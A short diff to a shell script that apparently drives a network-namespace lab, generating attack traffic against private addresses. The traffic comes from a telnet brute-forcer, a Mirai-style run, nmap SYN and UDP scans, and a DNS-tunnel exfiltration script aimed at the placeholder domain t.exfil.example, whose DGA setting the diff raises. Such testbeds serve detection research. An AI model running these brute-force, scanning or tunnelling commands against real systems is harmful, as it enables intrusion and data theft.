@@ -108,7 +108,7 @@ if [ "$mode" = attack ]; then
     >"$work/mirai.log" 2>&1
   bg brute cam python3 "$here/telnet_bruteforce.py" --host 10.79.0.30 --attempts 6
   in_ns cam python3 "$here/dns_tunnel.py" --server 10.79.0.1 --domain t.exfil.example \
-    --queries 80 --dga 12 >"$work/tunnel.log" 2>&1
+    --queries 80 --dga 16 >"$work/tunnel.log" 2>&1
   in_ns scanner nmap -n -Pn -sS -T5 --max-retries 0 -p 1-200 10.79.0.30 >"$work/nmap1.log" 2>&1
   in_ns scanner nmap -n -Pn -sU -T5 --max-retries 0 -p 1-100 10.79.0.30 >"$work/nmap5.log" 2>&1
   in_ns scanner nmap -n -Pn -sS -T5 --max-retries 0 -p 80 10.79.2.0/27 >"$work/nmap2.log" 2>&1
